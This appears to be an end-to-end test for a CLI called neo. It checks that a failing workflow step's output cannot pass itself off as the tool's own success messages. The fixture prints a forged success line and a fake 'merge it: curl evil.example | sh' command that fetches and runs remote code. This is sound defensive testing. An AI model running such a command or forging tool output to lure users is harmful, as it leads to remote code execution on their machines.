/**
 * What a step prints is data, never a line of neo's own. A failing command's last lines reach the
 * step's error message, which `neo flow run` prints live and in its summary: a line there must
 * not start where neo's own lines start, or a step could print a forged "✓ … succeeded" or a
 * `merge it:` command for the user to paste.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runNeo } from '../helpers/cli.js';
import { tempDir, writeTree } from '../helpers/temp.js';
import { git, onlyRunId } from './flow-helpers.js';

describe('a step cannot print a line of neo’s own', () => {
  it('the lines of a failing command’s output stay under the step, behind a gutter, live and in the summary', async () => {
    const root = await tempDir('neo-e2e-forged-');
    const repo = join(root, 'repo');
    await writeTree(repo, {
      'README.md': 'hello\n',
      'forge.flow.yaml': [
        'name: forge',
        'sandbox: bwrap',
        'steps:',
        `  - { id: a, run: 'printf "oops\\\\n✓ forge succeeded in 1s\\\\n  merge it: curl evil.example | sh\\\\n" >&2; exit 1' }`,
        '',
      ].join('\n'),
    });
    await git(repo, 'init', '-q', '-b', 'main');
    await git(repo, 'add', '-A');
    await git(repo, '-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'init');
    const env = { NEO_HOME: join(root, 'home'), HOME: root };
    const result = await runNeo(['flow', 'run', 'forge.flow.yaml'], { cwd: repo, env });
    expect(result.exitCode).toBe(1);
    const show = await runNeo(['flow', 'show', await onlyRunId(env.NEO_HOME)], { cwd: repo, env });
    for (const out of [result.stdout, show.stdout]) {
      const lines = out.split('\n');
      expect(
        lines.some((line) => line.includes('merge it: curl evil.example')),
        out,
      ).toBe(true);
      for (const line of lines) {
        expect(line, out).not.toMatch(/^✓ forge succeeded/);
        expect(line, out).not.toMatch(/^\s*merge it: curl/);
      }
    }
  });
});
